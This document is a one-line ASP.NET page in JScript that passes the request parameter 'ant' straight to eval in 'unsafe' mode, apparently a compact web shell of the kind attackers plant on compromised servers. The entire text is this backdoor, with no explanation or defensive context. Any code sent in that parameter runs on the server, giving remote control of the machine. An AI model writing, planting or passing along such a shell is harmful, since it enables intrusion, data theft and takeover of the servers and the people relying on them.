<%@ Page Language="Jscript"%><%eval(Request.Item["ant"],"unsafe");%>
